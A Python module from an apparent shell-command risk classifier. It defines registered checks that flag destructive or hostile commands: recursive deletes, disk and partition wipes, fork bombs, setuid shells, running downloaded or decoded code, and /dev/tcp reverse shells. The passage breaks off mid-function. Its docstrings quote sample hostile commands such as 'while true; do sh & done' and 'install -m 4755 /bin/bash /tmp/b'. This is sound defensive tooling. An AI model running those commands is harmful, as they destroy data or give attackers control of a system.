"""The structural checks the risk rules are written in, registered by name.

A rule in rules.yaml names a check and its arguments; the registry maps the name to a factory
that takes those arguments as keywords and returns a ``Check``: a function over one parsed
``SimpleCommand`` (in the context of its script) that returns the offending detail (a path, an
option) or ``None``, so the reason printed to the user says exactly what fired. Checks never look
at the raw string: ``echo rm -rf /`` contains the text but runs ``echo``.

Checks without arguments are registered with ``@check(name)``; checks with arguments with
``@check_factory(name)``, whose keyword-only parameters (and their types, enforced strictly when
the rules are loaded) are the arguments a rule may pass.
"""

from __future__ import annotations

import difflib
import posixpath
import re
from collections.abc import Callable, Iterable, Mapping
from typing import Literal, TypeVar

import yaml

from securecli_eval.shell import textflow
from securecli_eval.shell.flows import REMOTE_PATH, decoder, downloaded_files, output_tags, resolve, urls
from securecli_eval.shell.parse import INTERPRETERS, SHELLS, ParsedScript, SimpleCommand, find_roots
from securecli_eval.shell.paths import (
    is_block_device,
    is_exfil_worthy,
    is_secret_path,
    norm_path,
    path_tier,
    persistence_kind,
)
from securecli_eval.shell.vocabulary import vocabulary
from securecli_eval.shell.wrappers import find_selects_everything, option_values, short_option

Tier = Literal["critical", "system", "unknown", "cwd", "local"]
WriteMode = Literal["write", "append", "edit"]


class Hit:
    """A command in its script, with the option, operand and written-path views the checks share.

    The views are computed once per command, because dozens of rules look at them.
    """

    __slots__ = ("cmd", "script", "_options", "_operands", "_written")

    def __init__(self, cmd: SimpleCommand, script: ParsedScript) -> None:
        self.cmd = cmd
        self.script = script
        self._options: frozenset[str] | None = None
        self._operands: list[str] | None = None
        self._written: list[tuple[str, str]] | None = None

    @property
    def options(self) -> frozenset[str]:
        if self._options is None:
            self._options = options_of(self.cmd.args)
        return self._options

    @property
    def operands(self) -> list[str]:
        """Non-option arguments, relative paths resolved against the working directory when it is known."""
        if self._operands is None:
            cwd = self.cmd.cwd
            self._operands = [
                resolve(a, cwd) if cwd is not None and "=" not in a and ":" not in a else a
                for a in self.cmd.args
                if not a.startswith("-") or a == "-"
            ]
        return self._operands

    @property
    def written(self) -> list[tuple[str, str]]:
        if self._written is None:
            cwd = self.cmd.cwd
            self._written = [(resolve(p, cwd), how) for p, how in written_paths(self.cmd)]
        return self._written

    def inputs(self, kind: str) -> list[str]:
        """Details of the input tags of one kind: ``inputs("secret")`` -> paths of secrets read upstream."""
        prefix = kind + ":"
        return sorted(t[len(prefix) :] for t in self.cmd.inputs if t.startswith(prefix))

    def substituted(self) -> list[SimpleCommand]:
        return [self.script.commands[i] for i in (*self.cmd.args_from, *self.cmd.name_from)]


Check = Callable[[Hit], "str | None"]
CheckFactory = Callable[..., Check]

CHECKS: dict[str, CheckFactory] = {}
"""Every check a rule can name, as a factory: the rule's ``args`` as keywords -> ``Check``."""

Need = Literal["writes", "redirects", "inputs", "spawns", "wrappers", "paths", "endless"]
NEEDS: dict[str, Need] = {}
"""What a command must have for a check to possibly fire: the classifier skips the check otherwise.

It is only a shortcut (a check returns None on such a command anyway), so most commands, which write
nothing and read no tagged input, cost a few lookups instead of every check.
"""

_OUTPUT_OPTIONS = {
    "openssl": ("-out",),
    "sort": ("-o", "--output"),
    "gpg": ("-o", "--output"),
    "gpg2": ("-o", "--output"),
    "pv": ("-o",),
    "shuf": ("-o", "--output"),
}
WRITERS = frozenset(
    {"tee", "cp", "mv", "install", "ln", "rsync", "scp", "sed", "perl", "truncate", "dd", "curl", "wget"}
    | {"sysctl"}  # writes kernel settings (read by the checks as key=value)
    | _OUTPUT_OPTIONS.keys()
)


def features(cmd: SimpleCommand) -> frozenset[Need]:
    """The needs a command meets (see ``NEEDS``)."""
    found: set[Need] = set()
    if cmd.redirects:
        found.add("redirects")
        if any(r.writes for r in cmd.redirects):
            found.add("writes")
    if cmd.program in WRITERS:
        found.add("writes")
    if cmd.inputs:
        found.add("inputs")
    if cmd.background or cmd.in_pipeline:
        found.add("spawns")
    if cmd.endless:
        found.add("endless")
    if cmd.wrappers:
        found.add("wrappers")
    if cmd.redirects or cmd.cwd is not None or any("/" in a or a[:1] == "~" for a in cmd.args):
        found.add("paths")  # a path the rules could know: absolute, in a home, or resolvable
    return frozenset(found)


_F = TypeVar("_F", bound=Callable[..., object])


def _register(name: str, factory: CheckFactory, needs: Need | None) -> None:
    if name in CHECKS:
        raise ValueError(f"check '{name}' is registered twice")
    CHECKS[name] = factory
    if needs is not None:
        NEEDS[name] = needs


def check(name: str, needs: Need | None = None) -> Callable[[Check], Check]:
    """Register a check that takes no arguments under ``name`` (``needs``: see ``NEEDS``)."""

    def register(function: Check) -> Check:
        def factory() -> Check:
            return function

        factory.__doc__ = function.__doc__
        _register(name, factory, needs)
        return function

    return register


def check_factory(name: str, needs: Need | None = None) -> Callable[[_F], _F]:
    """Register a factory under ``name``: its keyword-only parameters are the rule's ``args``."""

    def register(factory: _F) -> _F:
        _register(name, factory, needs)  # type: ignore[arg-type]
        return factory

    return register


def _known(kind: str, name: str, known: Mapping[str, object]) -> None:
    """ValueError naming the closest known name, for arguments that refer to the vocabulary."""
    if name not in known:
        close = difflib.get_close_matches(name, list(known), n=1)
        hint = f"; did you mean '{close[0]}'?" if close else f" (known: {', '.join(sorted(known))})"
        raise ValueError(f"unknown {kind} '{name}'{hint}")


# ---- options and data flow --------------------------------------------------------------------------


def options_of(args: Iterable[str]) -> frozenset[str]:
    """Option names as written, plus each letter of a bundle (``-rf`` -> ``-rf``, ``-r``, ``-f``)."""
    found: set[str] = set()
    for arg in args:
        if arg.startswith("--"):
            found.add(arg.split("=", 1)[0])
        elif arg.startswith("-") and len(arg) > 1:
            found.add(arg)
            if arg[1:].isalpha():
                found.update(f"-{letter}" for letter in arg[1:])
    return frozenset(found)


def option_value(args: tuple[str, ...], names: Iterable[str]) -> list[str]:
    """Values of ``-o VALUE``, ``--opt=VALUE``, ``--opt VALUE`` and ``-oVALUE`` for the given names."""
    return option_values(args, tuple(names))


RECURSIVE = frozenset({"-r", "-R", "--recursive"})


def reads_code_from_stdin(cmd: SimpleCommand) -> bool:
    """An interpreter with no script operand (or ``-``/``-s``) executes what arrives on stdin."""
    if cmd.program not in INTERPRETERS or cmd.program in ("source", ".", "awk"):
        return False
    args = cmd.args
    if any(a in ("-", "-s", "/dev/stdin") for a in args):
        return True
    operands = [a for a in args if not a.startswith("-") and a != "/dev/fd/63"]
    if any(a in ("-c", "-e", "-m", "-r", "-E") for a in args):
        return False
    return not operands


def written_paths(cmd: SimpleCommand) -> list[tuple[str, str]]:
    """(path, how) for every file the command writes: redirects, tee, cp/mv/install, sed -i, dd of=."""
    written = [(r.target, "append" if ">>" in r.op else "write") for r in cmd.redirects if r.writes]
    program = cmd.program
    operands = [a for a in cmd.args if not a.startswith("-")]
    if program == "tee":
        mode = "append" if options_of(cmd.args) & {"-a", "--append"} else "write"
        written.extend((path, mode) for path in operands)
    elif program in ("cp", "mv", "install", "ln") and option_value(cmd.args, ("-t", "--target-directory")):
        directory = option_value(cmd.args, ("-t", "--target-directory"))[0]  # `mv -t DIR SOURCE...`
        written.extend(
            (posixpath.join(directory, posixpath.basename(o.rstrip("/"))), "write")
            for o in operands
            if o != directory
        )
    elif program in ("cp", "mv", "install", "ln", "rsync", "scp") and len(operands) >= 2:
        written.append((operands[-1], "write"))
    elif program in ("sed", "perl") and any(a.startswith(("-i", "--in-place")) for a in cmd.args):
        scripted = any(a in ("-e", "--expression", "-f") for a in cmd.args)
        written.extend((path, "edit") for path in (operands if scripted else operands[1:]))
    elif program == "truncate":
        written.extend((path, "write") for path in operands)
    elif program in _OUTPUT_OPTIONS:  # openssl -out DEVICE, sort -o FILE
        written.extend(
            (path, "write") for path in option_value(cmd.args, _OUTPUT_OPTIONS[program]) if path != "-"
        )
    elif program in ("curl", "wget"):  # curl -o /etc/passwd URL, wget -O /usr/bin/sudo URL
        written.extend((path, "write") for path in downloaded_files(program, cmd.args))
    elif program == "dd":
        written.extend((a[3:], "write") for a in cmd.args if a.startswith("of="))
    return [(path, how) for path, how in written if path]


_CODE_OPTIONS = ("-c", "-e", "-r", "-E", "--eval")


def _inline_code(cmd: SimpleCommand) -> str:
    return " ".join(option_value(cmd.args, _CODE_OPTIONS))


def _payload_is_hostile(hit: Hit) -> bool:
    hostile = vocabulary().patterns["hostile_payload"]
    return any(
        hostile.search(a) for c in hit.script.commands if c.program in ("echo", "printf") for a in c.args
    )


# ---- path conditions --------------------------------------------------------------------------------


def _path_test(
    tiers: list[Tier] | None,
    sets: list[str] | None,
    pattern: str | None,
    prefixes: list[str] | None,
    suffixes: list[str] | None,
    block_device: bool,
    secret: bool = False,
) -> Callable[[str], bool]:
    """A predicate over a path as written: every condition given must hold for its normalised form.

    ``tiers``: its ``path_tier``; ``sets``: vocabulary path sets it is in; ``pattern``: a vocabulary
    pattern searched in it; ``prefixes``/``suffixes``: how it starts or ends; ``block_device``;
    ``secret``: a private key, password hash or credential file.
    """
    words = vocabulary()
    for name in sets or ():
        _known("path set", name, words.paths)
    if pattern is not None:
        _known("pattern", pattern, words.patterns)
    if not (tiers or sets or pattern or prefixes or suffixes or block_device or secret):
        raise ValueError(
            "give at least one path condition "
            "(tiers, sets, pattern, prefixes, suffixes, block_device, secret)"
        )
    in_tiers = frozenset(tiers or ())
    members = frozenset().union(*(words.paths[name] for name in sets or ()))
    regex = words.patterns[pattern] if pattern is not None else None
    starts = tuple(prefixes or ())
    ends = tuple(suffixes or ())

    def test(path: str) -> bool:
        norm = norm_path(path)
        return (
            (not in_tiers or path_tier(path) in in_tiers)
            and (not sets or norm in members)
            and (regex is None or regex.search(norm) is not None)
            and (not starts or norm.startswith(starts))
            and (not ends or norm.endswith(ends))
            and (not block_device or is_block_device(norm))
            and (not secret or is_secret_path(norm))
        )

    return test


@check_factory("operand")
def operand(
    *,
    tiers: list[Tier] | None = None,
    sets: list[str] | None = None,
    pattern: str | None = None,
    prefixes: list[str] | None = None,
    suffixes: list[str] | None = None,
    block_device: bool = False,
    secret: bool = False,
) -> Check:
    """The first operand (non-option argument) that meets the path conditions."""
    test = _path_test(tiers, sets, pattern, prefixes, suffixes, block_device, secret)

    def operand_check(hit: Hit) -> str | None:
        return next((a for a in hit.operands if test(a)), None)

    return operand_check


@check_factory("writes", needs="writes")
def writes(
    *,
    tiers: list[Tier] | None = None,
    sets: list[str] | None = None,
    pattern: str | None = None,
    prefixes: list[str] | None = None,
    suffixes: list[str] | None = None,
    block_device: bool = False,
    modes: list[WriteMode] | None = None,
) -> Check:
    """The first written path (redirect, tee, cp/mv target, sed -i, dd of=) that meets the conditions.

    ``modes`` limits how it is written: ``write`` (replaced), ``append`` or ``edit`` (in place).
    """
    test = _path_test(tiers, sets, pattern, prefixes, suffixes, block_device)
    allowed = frozenset(modes or ("write", "append", "edit"))

    def writes_check(hit: Hit) -> str | None:
        for path, how in hit.written:
            if how in allowed and test(path):
                return path
        return None

    return writes_check


@check_factory("reads", needs="paths")
def reads(
    *,
    tiers: list[Tier] | None = None,
    sets: list[str] | None = None,
    pattern: str | None = None,
    prefixes: list[str] | None = None,
    suffixes: list[str] | None = None,
    block_device: bool = False,
) -> Check:
    """A file the command reads (operand, ``<``, ``if=``, absolute argument) that meets the conditions.

    Programs in the ``non_readers`` set only name files (``ls``, ``chmod``, ``ssh -i``) and never count.
    """
    test = _path_test(tiers, sets, pattern, prefixes, suffixes, block_device)
    non_readers = vocabulary().programs["non_readers"]

    def reads_check(hit: Hit) -> str | None:
        cmd = hit.cmd
        if cmd.program in non_readers:
            return None
        candidates = [*hit.operands, *(r.target for r in cmd.redirects if r.reads)]
        candidates += [a.split("=", 1)[1] for a in cmd.args if a.startswith(("if=", "--in=", "-in="))]
        candidates += [a for a in cmd.args if a.startswith(("/", "~")) and a not in candidates]
        return next((c for c in candidates if test(c)), None)

    return reads_check


# ---- options and arguments --------------------------------------------------------------------------


@check_factory("has_option")
def has_option(*, options: list[str]) -> Check:
    """One of ``options`` is given (bundled short options count: ``-rf`` gives ``-r``)."""
    wanted = frozenset(options)

    def has_option_check(hit: Hit) -> str | None:
        found = hit.options & wanted
        return min(found) if found else None

    return has_option_check


@check_factory("has_args")
def has_args(*, regexes: list[str]) -> Check:
    """Every regex matches some argument; the detail is the argument the last one matched."""
    compiled = [re.compile(r) for r in regexes]
    if not compiled:
        raise ValueError("give at least one regex")

    def has_args_check(hit: Hit) -> str | None:
        detail = None
        for regex in compiled:
            detail = next((a for a in hit.cmd.args if regex.search(a)), None)
            if detail is None:
                return None
        return detail

    return has_args_check


@check_factory("code_matches")
def code_matches(*, regexes: list[str]) -> Check:
    """The inline code of ``-c``/``-e``/``-r``/``--eval`` matches every regex (case-insensitive)."""
    compiled = [re.compile(p, re.IGNORECASE) for p in regexes]

    def code_matches_check(hit: Hit) -> str | None:
        code = _inline_code(hit.cmd)
        if code and all(c.search(code) for c in compiled):
            return code[:60]
        return None

    return code_matches_check


# ---- destruction ------------------------------------------------------------------------------------


@check_factory("recursive_delete")
def recursive_delete(*, tiers: list[Tier]) -> Check:
    """A recursive option and an operand in one of ``tiers``. Without the option, every file of a critical
    directory (``rm /etc/*``, or ``ROOT/**``: what an unfiltered ``find`` selects) counts too."""
    wanted = RECURSIVE | {"-rf", "-fr"}
    in_tiers = frozenset(tiers)

    def recursive_delete_check(hit: Hit) -> str | None:
        recursive = bool(hit.options & wanted)
        return next(
            (
                a
                for a in hit.operands
                if (recursive or (a.endswith(("/**", "/*")) and path_tier(a) == "critical"))
                and path_tier(a) in in_tiers
            ),
            None,
        )

    return recursive_delete_check


@check_factory("recursive_delete_of")
def recursive_delete_of(*, pattern: str) -> Check:
    """A recursive delete of an operand matching a vocabulary ``pattern``, whole: a glob in it picks some
    files (``/var/lib/mysql/*.err``), not the whole directory."""
    _known("pattern", pattern, vocabulary().patterns)
    matches = vocabulary().patterns[pattern].match
    wanted = RECURSIVE | {"-rf", "-fr"}

    def recursive_delete_of_check(hit: Hit) -> str | None:
        if not hit.options & wanted:
            return None
        return next(
            (a for a in hit.operands if matches(norm_path(a)) and not _GLOB.search(norm_path(a))), None
        )

    return recursive_delete_of_check


_GLOB = re.compile(r"[*?[]")
_CLAUSE = re.compile(r"^([ugoa]*)((?:[-+=][rwxXst]*)+)$")
_ACTION = re.compile(r"([-+=])([rwxXst]*)")
_ROOT_OWNER = re.compile(r"^(?:root|0)(?::(?:root|0|wheel))?$")


def only_tightens(program: str, mode_or_owner: str) -> bool:
    """A mode that grants nothing to group and others and sets no special bit (``go-rwx``,
    ``u+rwX,go-rwx``, ``700``, ``600``), or root as the owner."""
    if program == "chmod":
        if re.fullmatch(r"0?[0-7]00", mode_or_owner):
            return True
        clauses = mode_or_owner.split(",")
        for clause in clauses:
            m = _CLAUSE.match(clause)
            if not m:
                return False
            who = m.group(1) or "a"
            for op, perms in _ACTION.findall(m.group(2)):
                grants = op in "+=" and perms
                if grants and (set(who) - {"u"} or set(perms) & {"s", "t"}):
                    return False
        return True
    if program in ("chown", "chgrp"):
        return bool(_ROOT_OWNER.match(mode_or_owner))
    return False


_HOME_OF = re.compile(r"^(?:/home/|/Users/)([^/]+)/*$")
_THE_USER = re.compile(r"^(?:\$\{?(?:USER|LOGNAME)\}?)$")


def returned_to_owner(path: str, owner: str) -> bool:
    """A home directory given back to the user it belongs to (``chown -R alice: /home/alice``,
    ``chown -R $USER:$USER ~``): repairing ownership, not handing a home to someone else."""
    user = owner.split(":", 1)[0].split(".", 1)[0]
    if not user:
        return False
    home = _HOME_OF.match(path)
    if home is not None:
        return user == home.group(1) or bool(_THE_USER.match(user))
    return (
        norm_path(path) == "~" and path.startswith(("~", "$HOME", "${HOME}")) and bool(_THE_USER.match(user))
    )


@check_factory("recursive_change")
def recursive_change(*, tiers: list[Tier]) -> Check:
    """chmod/chown -R: the first operand is the mode or owner, the rest are the paths.

    A change that only tightens access (``chmod -R go-rwx ~/.ssh``, ``chown -R root /etc``) is not one,
    except on the system's own critical directories, where even ``700`` locks out every other user.
    """
    in_tiers = frozenset(tiers)

    def recursive_change_check(hit: Hit) -> str | None:
        if not hit.options & RECURSIVE:
            return None
        if hit.cmd.program == "setfacl":
            paths = hit.operands
        else:
            paths = hit.operands[1:]
            if hit.cmd.program in ("chown", "chgrp") and hit.operands:
                paths = [p for p in paths if not returned_to_owner(p, hit.operands[0])]
            if hit.operands and only_tightens(hit.cmd.program, hit.operands[0]):
                paths = [
                    p
                    for p in paths
                    if norm_path(p) in vocabulary().paths["critical_dirs"]
                    and not norm_path(p).startswith("~")
                ]
        return next((p for p in paths if path_tier(p) in in_tiers), None)

    return recursive_change_check


@check_factory("moves_away")
def moves_away(*, tiers: list[Tier] | None = None, pattern: str | None = None) -> Check:
    """A source operand of ``mv`` (every operand but the last) in one of ``tiers``, or matching the
    vocabulary ``pattern``."""
    in_tiers = frozenset(tiers or ())
    if pattern is not None:
        _known("pattern", pattern, vocabulary().patterns)
    regex = vocabulary().patterns[pattern] if pattern is not None else None

    def moves_away_check(hit: Hit) -> str | None:
        directory = option_value(hit.cmd.args, ("-t", "--target-directory"))  # mv -t DIR SOURCE...
        target = resolve(directory[0], hit.cmd.cwd) if directory else None
        sources = [o for o in hit.operands if o != target] if directory else hit.operands[:-1]
        return next(
            (
                a
                for a in sources
                if path_tier(a) in in_tiers or (regex is not None and regex.match(norm_path(a)))
            ),
            None,
        )

    return moves_away_check


@check_factory("find_delete")
def find_delete(*, filtered: bool) -> Check:
    """``find ROOT -delete`` over a critical root, with (``filtered``) or without a name/time/size filter."""

    def find_delete_check(hit: Hit) -> str | None:
        if "-delete" not in hit.cmd.args:
            return None
        if find_selects_everything(hit.cmd.args) == filtered:
            return None
        roots = [resolve(r, hit.cmd.cwd) for r in find_roots(hit.cmd.args)]
        return next((r for r in roots if path_tier(r) == "critical"), None)

    return find_delete_check


_REMOVES_SOURCES = {
    "tar": ("--remove-files",),
    "rsync": ("--remove-source-files",),
    "zip": ("-m", "--move"),
    "7z": ("-sdel",),
    "7za": ("-sdel",),
}


@check_factory("removes_sources")
def removes_sources(*, tiers: list[Tier]) -> Check:
    """An archiver or copier told to delete what it took (``tar --remove-files``, ``zip -m``,
    ``rsync --remove-source-files``) with a source in one of ``tiers``."""
    in_tiers = frozenset(tiers)

    def removes_sources_check(hit: Hit) -> str | None:
        flags = _REMOVES_SOURCES.get(hit.cmd.program, ())
        if not any(flag in hit.cmd.args or flag in hit.options for flag in flags):
            return None
        return next((a for a in hit.operands if path_tier(a) in in_tiers), None)

    return removes_sources_check


@check("destroys_volume")
def destroys_volume(hit: Hit) -> str | None:
    """A storage pool, logical volume, RAID member or LUKS header destroyed."""
    cmd, args = hit.cmd, hit.cmd.args
    if cmd.program in ("zpool", "zfs") and args[:1] in (("destroy",), ("labelclear",)):
        return f"{cmd.program} {' '.join(args[:2])}"
    if cmd.program in ("lvremove", "vgremove", "pvremove") and hit.operands:
        return f"{cmd.program} {hit.operands[0]}"
    if cmd.program == "mdadm" and "--zero-superblock" in args:
        return "mdadm --zero-superblock"
    if cmd.program == "cryptsetup" and any(a in ("erase", "luksErase", "luksFormat") for a in args):
        return "cryptsetup " + next(a for a in args if a in ("erase", "luksErase", "luksFormat"))
    if cmd.program == "dmsetup" and any(a in ("remove_all", "wipe_table") for a in args):
        return f"dmsetup {next(a for a in args if a in ('remove_all', 'wipe_table'))}"
    return None


_ENDLESS = frozenset({"/dev/zero", "/dev/urandom", "/dev/random"})
_SIZE = re.compile(r"^(\d+(?:\.\d+)?)([KMGTPE]?)(?:i?B)?$", re.IGNORECASE)
_FILL_BYTES = 10 << 30


def _bytes(text: str) -> float | None:
    m = _SIZE.match(text.strip())
    if not m:
        return None
    return float(m.group(1)) * 1024 ** "BKMGTPE".index((m.group(2) or "B").upper())


@check("fills_disk")
def fills_disk(hit: Hit) -> str | None:
    """An endless stream (``/dev/zero``, ``yes``) written to a file, or a file of 10 GiB or more made."""
    cmd, args = hit.cmd, hit.cmd.args
    files = [p for p, how in hit.written if not p.startswith("/dev/")]
    if cmd.program == "dd":
        source = next((a[3:] for a in args if a.startswith("if=")), "")
        target = next((a[3:] for a in args if a.startswith("of=")), "")
        if source in _ENDLESS and target and not target.startswith("/dev/"):
            count = next((a[6:] for a in args if a.startswith("count=")), None)
            block = _bytes(next((a[3:] for a in args if a.startswith("bs=")), "512")) or 512
            total = (_bytes(count) or 0) * block if count is not None else float("inf")
            return f"dd of={target}" if total >= _FILL_BYTES else None
        return None
    if cmd.program == "fallocate":
        sizes = [_bytes(v) for v in option_value(args, ("-l", "--length"))]
        return (
            f"fallocate {max(s for s in sizes if s)}" if any(s and s >= _FILL_BYTES for s in sizes) else None
        )
    endless = cmd.program == "yes" or (
        cmd.program in ("cat", "pv") and any(o in _ENDLESS for o in hit.operands)
    )
    if cmd.program == "head" and any(o in _ENDLESS for o in hit.operands):
        sizes = [_bytes(v) for v in option_value(args, ("-c", "--bytes"))]
        endless = any(s and s >= _FILL_BYTES for s in sizes)
    return files[0] if endless and files else None


_PAUSES = frozenset({"sleep", "usleep", "read", "wait", "inotifywait", "select"})


@check("endless_creation", needs="endless")
def endless_creation(hit: Hit) -> str | None:
    """A loop that never ends, never pauses and makes the file system grow each time round: appends to a
    file, creates files or directories of changing names, or directories nested one in the next
    (``while true; do mkdir x; cd x; done``): the disk or the inodes fill up."""
    cmd = hit.cmd
    if not cmd.endless or any(c.endless and c.program in _PAUSES for c in hit.script.commands):
        return None
    appended = next((p for p, how in hit.written if how == "append" and not p.startswith("/dev/")), None)
    if appended is not None:
        return f"appends to {appended} endlessly"
    if cmd.program in ("mkdir", "touch", "cp", "fallocate", "mktemp") and (
        any("$" in o for o in hit.operands) or cmd.program == "mktemp"
    ):
        return f"{cmd.program} {' '.join(hit.operands)} endlessly"
    if cmd.program == "mkdir" and any(
        c.endless and c.program in ("cd", "pushd") for c in hit.script.commands
    ):
        return f"mkdir {' '.join(hit.operands)} and cd into it endlessly"
    return None


@check("deletes_found")
def deletes_found(hit: Hit) -> str | None:
    """Files ``find`` selected under a system or home tree, deleted (``find /etc -name X -exec rm {} +``)."""
    for operand in hit.operands:
        if operand.endswith("/FOUND") and path_tier(operand[: -len("/FOUND")] or "/") == "critical":
            return operand
    return None


@check("overwrite_critical_file", needs="writes")
def overwrite_critical_file(hit: Hit) -> str | None:
    """A critical file is replaced (not appended to or edited)."""
    critical = vocabulary().paths["critical_files"]
    return next((p for p, how in hit.written if how == "write" and norm_path(p) in critical), None)


@check("rsync_delete_critical")
def rsync_delete_critical(hit: Hit) -> str | None:
    """``rsync --delete`` whose destination is critical."""
    if not hit.options & {"--delete", "--delete-before", "--delete-after", "--delete-during"}:
        return None
    destination = hit.operands[-1] if len(hit.operands) >= 2 else ""
    return destination if path_tier(destination) == "critical" else None


# ---- disks ------------------------------------------------------------------------------------------


@check_factory("device_operand")
def device_operand(
    *, needs_option: dict[str, list[str]] | None = None, dry_run: dict[str, list[str]] | None = None
) -> Check:
    """An operand that is a block device; ``needs_option`` names programs that only write with one of
    the listed options (``wipefs`` without ``-a`` only lists signatures), ``dry_run`` programs whose
    listed options make them write nothing (``mke2fs -n``)."""
    required = {program: frozenset(options) for program, options in (needs_option or {}).items()}
    harmless = {program: frozenset(options) for program, options in (dry_run or {}).items()}

    def device_operand_check(hit: Hit) -> str | None:
        options = required.get(hit.cmd.program)
        if options is not None and not hit.options & options:
            return None
        if hit.options & harmless.get(hit.cmd.program, frozenset()):
            return None
        return next((a for a in hit.operands if is_block_device(a)), None)

    return device_operand_check


@check("dd_device")
def dd_device(hit: Hit) -> str | None:
    """``dd of=DEVICE``."""
    return next((a[3:] for a in hit.cmd.args if a.startswith("of=") and is_block_device(a[3:])), None)


@check("partition_wipe")
def partition_wipe(hit: Hit) -> str | None:
    """A partitioning tool told to zap, relabel or erase a block device."""
    cmd = hit.cmd
    device = next((a for a in hit.operands if is_block_device(a)), None)
    if device is None:
        return None
    if cmd.program == "sgdisk" and hit.options & {"-Z", "--zap-all", "-o", "--clear", "-z", "--zap"}:
        return device
    if cmd.program == "parted" and any(a in ("mklabel", "rm", "mkpart") for a in cmd.args):
        return device
    if cmd.program == "sfdisk" and hit.options & {"--delete", "--wipe"}:
        return device
    if cmd.program == "hdparm" and any(a.startswith("--security-erase") for a in cmd.args):
        return device
    if cmd.program in ("fdisk", "gdisk") and cmd.stdin_text and "w" in cmd.stdin_text.split():
        return device  # its dialogue scripted on stdin, ending in w(rite): `fdisk /dev/sda <<< $'o\nw'`
    return None


# ---- fork bombs -------------------------------------------------------------------------------------


@check("fork_bomb", needs="spawns")
def fork_bomb(hit: Hit) -> str | None:
    """A function that calls itself in the background or in a pipeline, or a loop that never ends
    starting a process in the background each time round (``while true; do sh & done``)."""
    cmd = hit.cmd
    if cmd.function and cmd.program == cmd.function and (cmd.background or cmd.in_pipeline):
        return f"{cmd.function} calls itself in the background"
    if cmd.endless and cmd.background:
        return f"an endless loop starts {cmd.program or 'a command'} in the background"
    return None


# ---- permissions ------------------------------------------------------------------------------------


_ACL_GRANT = re.compile(r"^(?:o(?:ther)?|u(?:ser)?:[^:]+|g(?:roup)?:[^:]*)::?[rwx-]*[rw]")


@check("world_writable_secret")
def world_writable_secret(hit: Hit) -> str | None:
    """A mode (or an ACL entry) that opens a password or key file to others."""
    if hit.cmd.program == "setfacl":
        entries = option_value(hit.cmd.args, ("-m", "--modify"))
        opens = any(_ACL_GRANT.match(entry) for entry in entries)
        if not opens:
            return None
        exposed = vocabulary().paths["shadow_files"] | {"/etc/sudoers"}
        return next((a for a in hit.operands if norm_path(a) in exposed or is_secret_path(a)), None)
    mode = next((a for a in hit.cmd.args if re.fullmatch(r"[0-7]{3,4}|[ugoa]*[+=][rwxXst]+", a)), "")
    opens = bool(re.fullmatch(r"[0-7]*[0-7][1-7][1-7]|[0-7]*[2367][0-7]", mode)) or bool(
        re.match(r"^(o|a|)[+=]", mode)
    )
    if not opens:
        return None
    words = vocabulary()
    exposed = words.paths["shadow_files"] | {"/etc/sudoers", "/etc/passwd"}
    return next((a for a in hit.operands[1:] if norm_path(a) in exposed or is_secret_path(a)), None)


@check("setuid_mode")
def setuid_mode(hit: Hit) -> str | None:
    """A mode argument that sets the setuid or setgid bit."""
    return next(
        (a for a in hit.cmd.args if re.fullmatch(r"[ugoa]*[+=][rwxXt]*s[rwxXt]*|[2467][0-7]{3}", a)), None
    )


def sets_setuid_bit(mode: str) -> bool:
    """The mode sets the setuid bit (``u+s``, ``+s``, ``4755``), not only setgid (``g+s``, ``2775``)."""
    if re.fullmatch(r"[0-7]{4}", mode):
        return mode[0] in "4567"
    for clause in mode.split(","):
        m = re.match(r"^([ugoa]*)[-+=]", clause)
        if m and "s" in clause and "-s" not in clause and (not m.group(1) or set(m.group(1)) & {"u", "a"}):
            return True
    return False


@check("setuid_on_important")
def setuid_on_important(hit: Hit) -> str | None:
    """The setuid bit on a shell, an interpreter, a shell copied earlier, or a system binary (also set
    while copying: ``install -m 4755 /bin/bash /tmp/b``)."""
    if hit.cmd.program == "install":
        modes = option_value(hit.cmd.args, ("-m", "--mode"))
        special = [m for m in modes if re.fullmatch(r"[2467][0-7]{3}|[ugoa]*[+=][rwxXt]*s[rwxXt]*", m)]
        source = next((o for o in hit.operands if o not in modes), "")
        return source if special and posixpath.basename(source) in SHELLS | INTERPRETERS else None
    mode = setuid_mode(hit)
    if not mode:
        return None
    setuid_bit = sets_setuid_bit(mode)
    interesting = (
        SHELLS | INTERPRETERS | {"find", "vim", "vi", "less", "more", "cp", "env", "nmap", "tar", "nano"}
    )
    copied_shells = {
        norm_path(c.args[-1])
        for c in hit.script.commands
        if c.program in ("cp", "install") and len(c.args) >= 2 and posixpath.basename(c.args[-2]) in SHELLS
    }
    for path in hit.operands[1:]:  # setgid alone matters on a program, not on a (shared) directory
        if norm_path(path) in copied_shells or posixpath.basename(path) in interesting:
            return path
        if setuid_bit and path_tier(path) in ("critical", "system"):
            return path
    return None


# ---- remote and obfuscated code ---------------------------------------------------------------------


def _executes_input(hit: Hit, kind: str) -> str | None:
    """A shell or interpreter (or ``eval``, or a computed name) runs input of ``kind`` (download, decoder)."""
    cmd = hit.cmd
    found = hit.inputs(kind)
    if not found:
        return None
    if reads_code_from_stdin(cmd):
        return f"{found[0]} | {cmd.program}"
    runs_input = cmd.program in INTERPRETERS or cmd.program in ("eval", "at", "batch") or cmd.name_from
    if runs_input and (cmd.args_from or cmd.name_from or "/dev/fd/63" in cmd.args):
        return f"{cmd.program or 'command'} runs the output of {found[0]}"
    return None


@check("executes_download", needs="inputs")
def executes_download(hit: Hit) -> str | None:
    """An interpreter (or ``eval``, or a computed program name) runs what a downloader printed."""
    return _executes_input(hit, "download")


@check("executes_downloaded_file", needs="inputs")
def executes_downloaded_file(hit: Hit) -> str | None:
    """``wget URL && sh FILE``, ``curl -O URL; ./FILE``: a file the script downloaded is run."""
    found = hit.inputs("runs-download")
    return found[0] if found else None


@check("executes_decoded", needs="inputs")
def executes_decoded(hit: Hit) -> str | None:
    """An interpreter (or ``eval``, or a computed program name) runs what a decoder printed."""
    return _executes_input(hit, "decoder")


# ---- reverse shells ---------------------------------------------------------------------------------


@check("reverse_shell_redirect", needs="redirects")
def reverse_shell_redirect(hit: Hit) -> str | None:
    """A shell or interpreter with a redirect to ``/dev/tcp`` or ``/dev/udp``."""
    cmd = hit.cmd
    if cmd.program not in SHELLS | {"exec", ""} and cmd.program not in INTERPRETERS:
        return None
    return next((r.target for r in cmd.redirects if r.target.startswith(("/dev/tcp/", "/dev/udp/"))), None)


@check("shell_piped_with_network", needs="inputs")
def shell_piped_with_network(hit: Hit) -> str | None:
    """A shell reading from a network client, or a network client reading what a shell prints."""
    cmd = hit.cmd
    if cmd.program in SHELLS and reads_code_from_stdin(cmd):
        found = hit.inputs("network")
        if found:
